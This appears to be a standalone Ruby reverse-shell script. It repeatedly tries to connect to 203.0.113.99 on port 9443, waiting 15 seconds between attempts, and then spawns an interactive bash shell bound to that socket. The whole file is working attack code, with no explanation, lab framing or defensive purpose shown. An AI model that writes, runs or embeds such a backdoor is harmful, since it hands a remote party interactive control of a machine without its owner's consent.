require 'socket'

def reach(addr, port)
  TCPSocket.new(addr, port)
rescue SystemCallError
  sleep 15
  retry
end

s = reach('203.0.113.99', 9443)
pid = Process.spawn('/bin/bash', '-i', in: s, out: s, err: s)
Process.wait(pid)
